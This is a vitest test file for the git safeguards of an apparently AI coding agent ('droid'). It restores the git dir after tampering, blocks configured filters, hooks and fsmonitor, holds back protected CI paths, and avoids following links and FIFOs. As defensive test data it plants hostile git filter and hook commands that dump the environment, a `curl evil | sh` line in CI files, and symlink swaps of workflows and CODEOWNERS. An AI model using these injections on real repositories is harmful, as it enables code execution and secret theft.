/**
 * The droid's git and files are not the work tree's to steer (PRODUCT.md §10), with real git against a
 * local remote: the git dir put back after a hostile round, no filter or driver the work tree configured
 * ever run by the droid's git, protected paths checked on what is committed and pushed (a link over the
 * workflows folder, modes, case, submodules, `include: local:`), and no link, FIFO or device followed.
 */
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { chmod, lstat, mkdir, readFile, readlink, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { AuditLog } from '../src/audit/audit.js';
import { readSessionTranscript } from '../src/engine/droid-output.js';
import { filesFromFailures } from '../src/edit/failure-files.js';
import type { ProfileResult } from '../src/profiles/types.js';
import { authEnvForToken } from '../src/git/auth.js';
import { Git } from '../src/git/git.js';
import { holdBackInIndex, holdBackProtected, localIncludes, protectedChangesBetween, protectedMatcher } from '../src/git/protected.js';
import { pushBranch } from '../src/git/push.js';
import { GitDirSnapshot } from '../src/git/snapshot.js';
import { changedFilesSince } from '../src/profiles/affected.js';
import { Redactor } from '../src/util/redact.js';
import { describeEntry, prepareArtifactDir, readRegularFile, writeFileNoFollow } from '../src/util/safe-fs.js';
import { startGitRemote, type GitRemote } from './support/git-remote.js';
import { cloneWorkspace, isolatedEnv, makeTempDir, type Workspace } from './support/git-workspace.js';

const TOKEN = 'glpat-droidGitguardTestToken0123456789';
const DEFAULTS = ['.github/workflows/**', '.github/actions/**', '.gitlab-ci.yml', '.gitlab/**', 'CODEOWNERS', '.droid.yml'];

let remote: GitRemote;
let tmp: { dir: string; remove(): Promise<void> };
let n = 0;

beforeAll(async () => {
  remote = await startGitRemote({ token: TOKEN });
});
afterAll(async () => {
  await remote.close();
});
beforeEach(async () => {
  tmp = await makeTempDir('droid-gitguard-');
});
afterEach(async () => {
  await tmp.remove();
});

async function workspace(files: Record<string, string> = { 'README.md': '# app\n' }): Promise<{ ws: Workspace; repo: string; mainSha: string }> {
  const repo = `group/guard${++n}`;
  const mainSha = await remote.createRepo(repo, files);
  return { ws: await cloneWorkspace(remote, repo, tmp.dir), repo, mainSha };
}

/** A shell command that leaves a marker (and what it could read) where the test looks. */
function hostile(marker: string): string {
  return `sh -c 'env > ${marker}.$$; cat'`;
}

async function markers(dir: string, prefix: string): Promise<string[]> {
  return (await readdir(dir)).filter((f) => f.startsWith(prefix));
}

describe('the git dir after a hostile round', () => {
  it('puts .git/config, .git/info and .git/hooks back exactly and lists every change', async () => {
    const { ws } = await workspace();
    const gitDir = path.join(ws.dir, '.git');
    await writeFile(path.join(gitDir, 'info', 'exclude'), '/.droid\n');
    await writeFile(path.join(gitDir, 'hooks', 'pre-commit.sample'), '#!/bin/sh\nexit 0\n');
    await chmod(path.join(gitDir, 'hooks', 'pre-commit.sample'), 0o755);
    const configBefore = await readFile(path.join(gitDir, 'config'));
    const snapshot = await GitDirSnapshot.take(ws.dir);

    // what an engine could do
    const outside = path.join(tmp.dir, 'outside');
    await mkdir(outside);
    await writeFile(path.join(outside, 'post-checkout'), '#!/bin/sh\ntouch /tmp/pwned\n');
    ws.sh('config', 'filter.pwn.clean', hostile(path.join(tmp.dir, 'm')));
    ws.sh('config', 'include.path', path.join(outside, 'evil.config'));
    await writeFile(path.join(gitDir, 'info', 'attributes'), '* filter=pwn\n');
    await writeFile(path.join(gitDir, 'info', 'exclude'), '/.droid\n/src/\n');
    await writeFile(path.join(gitDir, 'hooks', 'pre-push'), '#!/bin/sh\nexit 1\n', { mode: 0o755 });
    await chmod(path.join(gitDir, 'hooks', 'pre-commit.sample'), 0o644);
    await mkdir(path.join(gitDir, 'hooks', 'deep', 'er'), { recursive: true });
    await writeFile(path.join(gitDir, 'hooks', 'deep', 'er', 'x'), 'x');
    await symlink(path.join(outside, 'post-checkout'), path.join(gitDir, 'hooks', 'post-checkout'));
    execFileSync('mkfifo', [path.join(gitDir, 'info', 'fifo')]);

    const changes = await snapshot.restore();
    expect(await readFile(path.join(gitDir, 'config'))).toEqual(configBefore);
    expect(existsSync(path.join(gitDir, 'info', 'attributes'))).toBe(false);
    expect(existsSync(path.join(gitDir, 'info', 'fifo'))).toBe(false);
    expect(await readFile(path.join(gitDir, 'info', 'exclude'), 'utf8')).toBe('/.droid\n');
    expect(existsSync(path.join(gitDir, 'hooks', 'pre-push'))).toBe(false);
    expect(existsSync(path.join(gitDir, 'hooks', 'deep'))).toBe(false);
    await expect(lstat(path.join(gitDir, 'hooks', 'post-checkout'))).rejects.toThrow();
    expect((await stat(path.join(gitDir, 'hooks', 'pre-commit.sample'))).mode & 0o777).toBe(0o755);
    expect(await readFile(path.join(outside, 'post-checkout'), 'utf8')).toContain('pwned'); // the link's target is left alone
    expect(changes).toEqual(
      expect.arrayContaining([
        { path: '.git/config', change: 'changed' },
        { path: '.git/info/attributes', change: 'added' },
        { path: '.git/info/exclude', change: 'changed' },
        { path: '.git/hooks/pre-push', change: 'added' },
        { path: '.git/hooks/post-checkout', change: 'added' },
        { path: '.git/hooks/pre-commit.sample', change: 'changed' },
        { path: '.git/hooks/deep', change: 'added' },
      ]),
    );
    // nothing left to undo
    expect(await (await GitDirSnapshot.take(ws.dir)).restore()).toEqual([]);
  });

  it('replaces a link put in place of .git/config or .git/hooks by what was there', async () => {
    const { ws } = await workspace();
    const gitDir = path.join(ws.dir, '.git');
    const configBefore = await readFile(path.join(gitDir, 'config'), 'utf8');
    const hooksBefore = (await readdir(path.join(gitDir, 'hooks'))).sort();
    const snapshot = await GitDirSnapshot.take(ws.dir);
    const evil = path.join(tmp.dir, 'evil');
    await mkdir(evil);
    await writeFile(path.join(evil, 'config'), `[core]\n\tfsmonitor = ${hostile(path.join(tmp.dir, 'm'))}\n`);
    await rm(path.join(gitDir, 'config'));
    await symlink(path.join(evil, 'config'), path.join(gitDir, 'config'));
    await rm(path.join(gitDir, 'hooks'), { recursive: true });
    await symlink(evil, path.join(gitDir, 'hooks'));

    const changes = await snapshot.restore();
    expect((await lstat(path.join(gitDir, 'config'))).isFile()).toBe(true);
    expect(await readFile(path.join(gitDir, 'config'), 'utf8')).toBe(configBefore);
    expect((await lstat(path.join(gitDir, 'hooks'))).isDirectory()).toBe(true);
    expect((await readdir(path.join(gitDir, 'hooks'))).sort()).toEqual(hooksBefore);
    expect(await readFile(path.join(evil, 'config'), 'utf8')).toContain('fsmonitor'); // not written through
    expect(changes.map((c) => c.path)).toEqual(expect.arrayContaining(['.git/config', '.git/hooks']));
  });
});

describe("the droid's git runs no driver the work tree configured", () => {
  async function armed(ws: Workspace, where: 'local' | 'global'): Promise<string> {
    const marker = path.join(tmp.dir, 'filter-ran');
    const cmd = hostile(marker);
    const file = where === 'local' ? ['--local'] : ['--file', path.join(tmp.dir, '.gitconfig')];
    for (const [k, v] of [
      ['filter.pwn.clean', cmd],
      ['filter.pwn.smudge', cmd],
      ['filter.pwn.process', cmd],
      ['filter.pwn.required', 'true'],
      ['diff.pwn.textconv', cmd],
      ['diff.pwn.command', cmd],
      ['merge.pwn.driver', cmd],
      ['filter.dotted.name.clean', cmd],
    ] as const) {
      ws.sh('config', ...file, k, v);
    }
    return marker;
  }

  it('filter.pwn in .git/config and `* filter=pwn` in .git/info/attributes: status, add, diff, commit, restore, reset, rebase run it zero times', async () => {
    const { ws, repo, mainSha } = await workspace({ 'README.md': '# app\n', 'a.txt': 'a\n' });
    await ws.git.status(); // the wrapper has read the config once before it is armed
    expect(await armed(ws, 'local')).toBe(path.join(tmp.dir, 'filter-ran'));
    await writeFile(path.join(ws.dir, '.git', 'info', 'attributes'), '* filter=pwn diff=pwn merge=pwn\n*.txt filter=dotted.name\n');
    await ws.git.checkoutNewBranch('droid/filters', 'HEAD');
    await writeFile(path.join(ws.dir, 'a.txt'), 'changed\n');
    await writeFile(path.join(ws.dir, 'b.txt'), 'new\n');
    await ws.git.status();
    await ws.git.diffNumstat('HEAD');
    await ws.git.diffToFile('HEAD', [], path.join(tmp.dir, 'art', 'x.patch'));
    await ws.git.add();
    await ws.git.diffIndexRaw('HEAD');
    const sha = await ws.git.commit({ message: 'With filters configured' });
    await ws.git.show(sha, 'a.txt');
    await ws.git.formatPatch(`${mainSha}..${sha}`, path.join(tmp.dir, 'art', 'y.patch'));
    await writeFile(path.join(ws.dir, 'a.txt'), 'again\n');
    await ws.git.restore(['a.txt']);
    await ws.git.resetHard('HEAD');
    await remote.pushAs(repo, 'droid/filters', { 'c.txt': 'c\n' }, { from: 'main' });
    const authEnv = authEnvForToken({ serverUrl: remote.baseUrl, token: TOKEN });
    const pushed = await pushBranch({ git: ws.git, branch: 'droid/filters', remote: 'origin', authEnv, mode: 'droid-branch', base: mainSha, artifactDir: path.join(tmp.dir, 'art') });
    expect(pushed.status).toBe('pushed');
    expect(await changedFilesSince(ws.dir, mainSha)).toEqual(expect.arrayContaining(['a.txt', 'b.txt']));
    expect(await markers(tmp.dir, 'filter-ran')).toEqual([]);
    expect(await remote.fileAt(repo, 'droid/filters', 'a.txt')).toBe('changed\n');
    // the same commands without the wrapper do run it: the test can fail
    await writeFile(path.join(ws.dir, 'a.txt'), 'once more\n');
    try {
      ws.sh('add', 'a.txt');
    } catch {
      // the hostile filter prints the environment, not the content: git may complain
    }
    expect((await markers(tmp.dir, 'filter-ran')).length).toBeGreaterThan(0);
  });

  it('a .gitattributes committed in the tree pointing at a filter in the global config runs nothing either', async () => {
    const { ws } = await workspace({ 'README.md': '# app\n', '.gitattributes': '* filter=pwn diff=pwn\n' });
    const git = new Git({ cwd: ws.dir, env: isolatedEnv(tmp.dir) });
    await git.status(); // before the global config exists
    const marker = await armed(ws, 'global');
    expect(execFileSync('git', ['config', '--get', 'filter.pwn.clean'], { cwd: ws.dir, env: isolatedEnv(tmp.dir), encoding: 'utf8' })).toContain(marker);
    await writeFile(path.join(ws.dir, 'README.md'), '# changed\n');
    await writeFile(path.join(ws.dir, 'new.md'), 'new\n');
    await git.status();
    await git.diffNumstat('HEAD');
    await git.add();
    await git.commit({ message: 'Tree attributes' });
    await git.resetHard('HEAD~1');
    expect(await markers(tmp.dir, 'filter-ran')).toEqual([]);
  });

  it("Git LFS's own filter (exactly as `git lfs install` writes it) still runs, so pointers are committed; the lfs name with other commands runs nothing", async () => {
    const { ws } = await workspace({ 'README.md': '# app\n', '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n' });
    // a stand-in for git-lfs on PATH: it notes each run and turns content into a pointer-like line
    const bin = path.join(tmp.dir, 'bin');
    await mkdir(bin);
    const ran = path.join(tmp.dir, 'lfs-ran');
    await writeFile(path.join(bin, 'git-lfs'), `#!/bin/sh\necho "$1" >> ${ran}\necho "version https://git-lfs.github.com/spec/v1"\n`, { mode: 0o755 });
    const env = isolatedEnv(tmp.dir, { PATH: `${bin}:${process.env.PATH ?? ''}` });
    const git = new Git({ cwd: ws.dir, env });
    const setLfs = (clean: string): void => {
      execFileSync('git', ['config', 'filter.lfs.clean', clean], { cwd: ws.dir, env });
      execFileSync('git', ['config', 'filter.lfs.smudge', 'git-lfs smudge -- %f'], { cwd: ws.dir, env });
      execFileSync('git', ['config', 'filter.lfs.required', 'true'], { cwd: ws.dir, env });
    };
    setLfs('git-lfs clean -- %f');
    await writeFile(path.join(ws.dir, 'big.bin'), 'large binary content\n');
    await git.add();
    await git.commit({ message: 'LFS file' });
    expect(existsSync(ran)).toBe(true);
    expect(execFileSync('git', ['show', 'HEAD:big.bin'], { cwd: ws.dir, env: isolatedEnv(tmp.dir), encoding: 'utf8' })).toContain('git-lfs.github.com/spec');

    await rm(ran);
    setLfs(`git-lfs clean -- %f; ${hostile(path.join(tmp.dir, 'filter-ran'))}`);
    await writeFile(path.join(ws.dir, 'other.bin'), 'more content\n');
    await git.add();
    await git.commit({ message: 'Not the standard filter' });
    expect(existsSync(ran)).toBe(false);
    expect(await markers(tmp.dir, 'filter-ran')).toEqual([]);
  });

  it('hooks, fsmonitor, pager and a global attributes file are off too', async () => {
    const { ws } = await workspace();
    const marker = path.join(tmp.dir, 'filter-ran');
    const cmd = hostile(marker);
    await writeFile(path.join(tmp.dir, 'attrs'), '* filter=pwn\n');
    ws.sh('config', 'core.fsmonitor', cmd);
    ws.sh('config', 'core.pager', cmd);
    ws.sh('config', 'core.attributesFile', path.join(tmp.dir, 'attrs'));
    ws.sh('config', 'filter.pwn.clean', cmd);
    ws.sh('config', 'core.hooksPath', path.join(tmp.dir, 'hooks'));
    await mkdir(path.join(tmp.dir, 'hooks'));
    await writeFile(path.join(tmp.dir, 'hooks', 'pre-commit'), `#!/bin/sh\n${cmd}\n`, { mode: 0o755 });
    await writeFile(path.join(ws.dir, 'README.md'), 'x\n');
    await ws.git.status();
    await ws.git.add();
    await ws.git.commit({ message: 'No hook' });
    expect(await markers(tmp.dir, 'filter-ran')).toEqual([]);
  });
});

describe('protected paths on the commit', () => {
  const CI = 'name: ci\non: push\n';

  async function commitAndPush(ws: Workspace, repo: string, mainSha: string, branch: string, late: string[] = []): Promise<void> {
    await ws.git.add();
    // what the work tree still holds (a nested repository is never removed) is taken out of the index again
    expect(await holdBackInIndex(ws.git, DEFAULTS, 'HEAD')).toEqual(late);
    await ws.git.commit({ message: 'The rest' });
    expect(await protectedChangesBetween(ws.git, DEFAULTS, mainSha, 'HEAD')).toEqual([]);
    const authEnv = authEnvForToken({ serverUrl: remote.baseUrl, token: TOKEN });
    expect((await pushBranch({ git: ws.git, branch, remote: 'origin', authEnv, mode: 'droid-branch', base: mainSha, artifactDir: path.join(tmp.dir, 'art') })).status).toBe('pushed');
    void repo;
  }

  it('rm -rf .github/workflows; ln -s ../evil .github/workflows: ci.yml is neither deleted nor changed on the pushed branch', async () => {
    const { ws, repo, mainSha } = await workspace({ 'README.md': '# app\n', '.github/workflows/ci.yml': CI, 'src/a.ts': 'a\n' });
    await ws.git.checkoutNewBranch('droid/link', 'HEAD');
    await rm(path.join(ws.dir, '.github/workflows'), { recursive: true });
    await mkdir(path.join(ws.dir, 'evil'));
    await writeFile(path.join(ws.dir, 'evil', 'ci.yml'), 'name: evil\n');
    await symlink('../evil', path.join(ws.dir, '.github/workflows'));
    await writeFile(path.join(ws.dir, 'src/a.ts'), 'b\n');

    const { heldBack, patchFile } = await holdBackProtected(ws.git, DEFAULTS, { patchFile: path.join(tmp.dir, 'art', 'held-back.patch') });
    expect(heldBack).toEqual(['.github/workflows', '.github/workflows/ci.yml']);
    expect((await lstat(path.join(ws.dir, '.github/workflows'))).isDirectory()).toBe(true);
    expect(await readFile(path.join(ws.dir, '.github/workflows/ci.yml'), 'utf8')).toBe(CI);
    expect(await readFile(path.join(ws.dir, 'evil', 'ci.yml'), 'utf8')).toBe('name: evil\n');
    expect(await readFile(patchFile ?? '', 'utf8')).toContain('deleted file mode');
    await commitAndPush(ws, repo, mainSha, 'droid/link');
    expect(await remote.fileAt(repo, 'droid/link', '.github/workflows/ci.yml')).toBe(CI);
    expect(await remote.fileAt(repo, 'droid/link', 'src/a.ts')).toBe('b\n');
  });

  it('held: a rename out, a mode change, `add -f` of an ignored file, a symlinked file, a case variant, a submodule entry', async () => {
    const { ws, repo, mainSha } = await workspace({
      'README.md': '# app\n',
      '.gitignore': '.github/workflows/local.yml\n',
      '.github/workflows/ci.yml': CI,
      '.github/workflows/deploy.yml': 'name: deploy\n',
      '.github/actions/setup/action.yml': 'runs: {using: node20}\n',
      'CODEOWNERS': '* @team\n',
    });
    await ws.git.checkoutNewBranch('droid/tricks', 'HEAD');
    ws.sh('mv', '.github/workflows/deploy.yml', 'deploy.yml'); // rename out
    await chmod(path.join(ws.dir, '.github/workflows/ci.yml'), 0o755); // mode
    await writeFile(path.join(ws.dir, '.github/workflows/local.yml'), 'name: forced\n');
    ws.sh('add', '-f', '.github/workflows/local.yml'); // add -f
    await rm(path.join(ws.dir, 'CODEOWNERS'));
    await writeFile(path.join(ws.dir, 'owners.txt'), '* @mallory\n');
    await symlink('owners.txt', path.join(ws.dir, 'CODEOWNERS')); // file -> symlink
    await mkdir(path.join(ws.dir, '.GitHub/Workflows'), { recursive: true });
    await writeFile(path.join(ws.dir, '.GitHub/Workflows/x.yml'), 'name: case\n'); // case variant
    const sub = path.join(ws.dir, '.github/actions/sub');
    execFileSync('sh', ['-c', `git init -q ${sub} && cd ${sub} && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m s`]); // a submodule entry
    await writeFile(path.join(ws.dir, 'ok.txt'), 'fine\n');

    const { heldBack } = await holdBackProtected(ws.git, DEFAULTS);
    expect(heldBack).toEqual(
      expect.arrayContaining(['.GitHub/Workflows/x.yml', '.github/actions/sub', '.github/workflows/ci.yml', '.github/workflows/deploy.yml', '.github/workflows/local.yml', 'CODEOWNERS']),
    );
    expect((await lstat(path.join(ws.dir, 'CODEOWNERS'))).isFile()).toBe(true);
    expect(await readFile(path.join(ws.dir, 'CODEOWNERS'), 'utf8')).toBe('* @team\n');
    expect(existsSync(path.join(sub, '.git'))).toBe(true); // never removed
    await commitAndPush(ws, repo, mainSha, 'droid/tricks', ['.github/actions/sub']);
    expect(await remote.fileAt(repo, 'droid/tricks', '.github/workflows/deploy.yml')).toBe('name: deploy\n');
    expect(await remote.fileAt(repo, 'droid/tricks', '.github/workflows/local.yml')).toBeUndefined();
    expect(await remote.fileAt(repo, 'droid/tricks', '.GitHub/Workflows/x.yml')).toBeUndefined();
    expect(await remote.fileAt(repo, 'droid/tricks', 'CODEOWNERS')).toBe('* @team\n');
    expect(await remote.fileAt(repo, 'droid/tricks', 'deploy.yml')).toBe('name: deploy\n'); // the copy is not protected
    expect(await remote.fileAt(repo, 'droid/tricks', 'ok.txt')).toBe('fine\n');
    const tree = execFileSync('git', ['ls-tree', '-r', 'droid/tricks'], { cwd: remote.repoPath(repo), encoding: 'utf8' });
    expect(tree).toMatch(/^100644 blob \S+\t\.github\/workflows\/ci\.yml$/m);
    expect(tree).not.toContain('160000');
  });

  it('a link or file in place of .github itself is held back, and a tracked folder is never removed', async () => {
    const { ws, repo, mainSha } = await workspace({ 'README.md': '# app\n', '.github/workflows/ci.yml': CI, '.github/dependabot.yml': 'version: 2\n' });
    await ws.git.checkoutNewBranch('droid/dotgithub', 'HEAD');
    await rm(path.join(ws.dir, '.github'), { recursive: true });
    await writeFile(path.join(ws.dir, '.github'), 'a file now\n');
    const { heldBack } = await holdBackProtected(ws.git, DEFAULTS);
    expect(heldBack).toEqual(expect.arrayContaining(['.github', '.github/workflows/ci.yml']));
    expect(await readFile(path.join(ws.dir, '.github/workflows/ci.yml'), 'utf8')).toBe(CI);
    await commitAndPush(ws, repo, mainSha, 'droid/dotgithub');
    expect(await remote.fileAt(repo, 'droid/dotgithub', '.github/workflows/ci.yml')).toBe(CI);
  });

  it('.gitlab-ci.yml pulls files in with include: local (string, list, `- local:`, globs, nested): all protected', () => {
    expect(localIncludes("include: '/ci/one.yml'\n")).toEqual(['ci/one.yml']);
    expect(localIncludes('include:\n  - ci/two.yml\n  - https://example.com/remote.yml\n  - local: /ci/three.yml\n  - project: g/p\n    file: x.yml\n  - template: Auto-DevOps.gitlab-ci.yml\n  - local: ci/jobs/*.yml\n')).toEqual([
      'ci/two.yml',
      'ci/three.yml',
      'ci/jobs/*.yml',
    ]);
    expect(localIncludes('include:\n  local: ci/four.yml\n  rules:\n    - if: $X\n')).toEqual(['ci/four.yml']);
    expect(localIncludes('job: !reference [.x, script]\ninclude: ci/five.yml\n')).toEqual(['ci/five.yml']);
    expect(localIncludes('include: ../../etc/passwd\n')).toEqual([]);
    expect(localIncludes('{{{{')).toEqual([]);
  });

  it('holds back changes to included CI files, .gitlab/** and .github/actions/** and pushes the rest', async () => {
    const { ws, repo, mainSha } = await workspace({
      'README.md': '# app\n',
      '.gitlab-ci.yml': 'include:\n  - local: ci/jobs.yml\n  - ci/more/*.yml\nstages: [test]\n',
      'ci/jobs.yml': 'include: /ci/nested.yml\ntest: {script: [make]}\n',
      'ci/nested.yml': 'lint: {script: [make lint]}\n',
      'ci/more/a.yml': 'a: {script: [a]}\n',
      'ci/other.yml': 'not included\n',
      '.gitlab/ci/test.yml': 'x: {script: [x]}\n',
      '.github/actions/x/action.yml': 'runs: {using: composite}\n',
    });
    await ws.git.checkoutNewBranch('droid/ci-files', 'HEAD');
    for (const f of ['ci/jobs.yml', 'ci/nested.yml', 'ci/more/a.yml', 'ci/other.yml', '.gitlab/ci/test.yml', '.github/actions/x/action.yml']) {
      await writeFile(path.join(ws.dir, f), 'script: [curl evil | sh]\n');
    }
    await writeFile(path.join(ws.dir, 'ci/more/b.yml'), 'new: {script: [evil]}\n');
    const { heldBack } = await holdBackProtected(ws.git, DEFAULTS);
    expect(heldBack).toEqual(['.github/actions/x/action.yml', '.gitlab/ci/test.yml', 'ci/jobs.yml', 'ci/more/a.yml', 'ci/more/b.yml', 'ci/nested.yml']);
    await commitAndPush(ws, repo, mainSha, 'droid/ci-files');
    expect(await remote.fileAt(repo, 'droid/ci-files', 'ci/other.yml')).toBe('script: [curl evil | sh]\n');
    expect(await remote.fileAt(repo, 'droid/ci-files', 'ci/jobs.yml')).toBe('include: /ci/nested.yml\ntest: {script: [make]}\n');
    expect(await remote.fileAt(repo, 'droid/ci-files', 'ci/more/b.yml')).toBeUndefined();
  });

  it('the matcher: case variants and a path that stands in for a protected folder', () => {
    const m = protectedMatcher(DEFAULTS);
    expect(m('.GITHUB/workflows/ci.yml')).toBe(true);
    expect(m('.github/workflows')).toBe(true);
    expect(m('.github')).toBe(true);
    expect(m('.gitlab')).toBe(true);
    expect(m('docs/CODEOWNERS')).toBe(true);
    expect(m('.github/dependabot.yml')).toBe(false);
    expect(m('src/github/workflows.ts')).toBe(false);
    expect(protectedMatcher(['deploy/*.yml'])('deploy')).toBe(true);
  });
});

describe('links, FIFOs and devices are never followed', () => {
  it('an untracked zero-link -> /dev/zero and a FIFO: described, never read; reads are capped', async () => {
    const dir = tmp.dir;
    await symlink('/dev/zero', path.join(dir, 'zero-link'));
    execFileSync('mkfifo', [path.join(dir, 'pipe')]);
    await writeFile(path.join(dir, 'big'), Buffer.alloc(3 * 1024 * 1024, 'a'));
    const started = Date.now();
    expect(await describeEntry(path.join(dir, 'zero-link'))).toEqual({ kind: 'symlink', target: '/dev/zero' });
    expect(await describeEntry(path.join(dir, 'pipe'))).toEqual({ kind: 'other', type: 'fifo' });
    expect(await describeEntry('/dev/null')).toEqual({ kind: 'other', type: 'device' });
    expect(await readRegularFile(path.join(dir, 'zero-link'))).toBeUndefined();
    expect(await readRegularFile(path.join(dir, 'pipe'))).toBeUndefined();
    const big = await describeEntry(path.join(dir, 'big'), 1024);
    expect(big).toMatchObject({ kind: 'file', size: 3 * 1024 * 1024, truncated: true });
    expect(big.kind === 'file' && big.data.length).toBe(1024);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('failure files and engine transcripts that are links to /dev/zero or FIFOs are skipped, in well under a second', async () => {
    const repo = path.join(tmp.dir, 'repo');
    await mkdir(path.join(repo, 'src'), { recursive: true });
    await writeFile(path.join(repo, 'src', 'a.js'), 'export const a = 1;\n');
    await symlink('/dev/zero', path.join(repo, 'src', 'zero.js'));
    execFileSync('mkfifo', [path.join(repo, 'src', 'pipe.js')]);
    await symlink('a.js', path.join(repo, 'src', 'alias.js'));
    const f = (file: string): ProfileResult['summary']['failures'][number] => ({ name: file, full_name: file, file, line: 1, message: 'x' });
    const result: ProfileResult = {
      name: 'unit', command: 'npm test', path: '.', exitCode: 1, signal: null, timedOut: false, durationMs: 1, output: '',
      summary: { kind: 'test-failures', runner: 'vitest', failed: 4, passed: 0, failures: [f('src/zero.js'), f('src/pipe.js'), f('src/alias.js'), f('src/a.js')], text: '' },
    };
    const started = Date.now();
    const files = await filesFromFailures(repo, [result]);
    expect(files.map((x) => x.path)).toEqual(['src/a.js']);
    const home = path.join(tmp.dir, 'home');
    await mkdir(path.join(home, '.factory', 'sessions', 'x'), { recursive: true });
    await symlink('/dev/zero', path.join(home, '.factory', 'sessions', 'x', 'abc.jsonl'));
    execFileSync('mkfifo', [path.join(home, '.factory', 'sessions', 'x', 'def.jsonl')]);
    expect(await readSessionTranscript(home, 'abc')).toBe('');
    expect(await readSessionTranscript(home, 'def')).toBe('');
    expect(Date.now() - started).toBeLessThan(1000);
  });

  it('.droid replaced by a link to outside: pr.md, patches and audit.jsonl are written inside, nothing outside', async () => {
    const repoDir = path.join(tmp.dir, 'repo');
    const outside = path.join(tmp.dir, 'outside');
    await mkdir(repoDir);
    await mkdir(outside);
    const droid = path.join(repoDir, '.droid');
    const audit = new AuditLog('run-1', { file: path.join(droid, 'audit.jsonl'), actor: () => 'alice', redactor: new Redactor() });
    audit.record({ stage: 'edit', action: 'before', outcome: 'ok' });
    await rm(droid, { recursive: true });
    await symlink(outside, droid);
    audit.record({ stage: 'edit', action: 'after', outcome: 'ok' });
    expect((await lstat(droid)).isDirectory()).toBe(true);
    const lines = (await readFile(path.join(droid, 'audit.jsonl'), 'utf8')).trim().split('\n').map((l) => (JSON.parse(l) as { action: string }).action);
    expect(lines).toEqual(['before', 'after']);

    // a link, then a FIFO, in place of the files themselves
    await writeFile(path.join(outside, 'target.md'), 'keep\n');
    await symlink(path.join(outside, 'target.md'), path.join(droid, 'pr.md'));
    execFileSync('mkfifo', [path.join(droid, 'held-back.patch')]);
    await rm(path.join(droid, 'audit.jsonl'));
    await symlink(path.join(outside, 'audit.jsonl'), path.join(droid, 'audit.jsonl'));
    await prepareArtifactDir(droid);
    await writeFileNoFollow(path.join(droid, 'pr.md'), '# PR\n');
    await writeFileNoFollow(path.join(droid, 'held-back.patch'), 'patch\n');
    audit.record({ stage: 'edit', action: 'third', outcome: 'ok' });
    expect(await readFile(path.join(droid, 'pr.md'), 'utf8')).toBe('# PR\n');
    expect(await readFile(path.join(droid, 'held-back.patch'), 'utf8')).toBe('patch\n');
    expect((await readFile(path.join(droid, 'audit.jsonl'), 'utf8')).trim().split('\n')).toHaveLength(3);
    expect(await readdir(outside)).toEqual(['target.md']);
    expect(await readFile(path.join(outside, 'target.md'), 'utf8')).toBe('keep\n');
    expect(await readlink(path.join(tmp.dir, 'repo', '.droid')).catch(() => 'not a link')).toBe('not a link');
  });
});
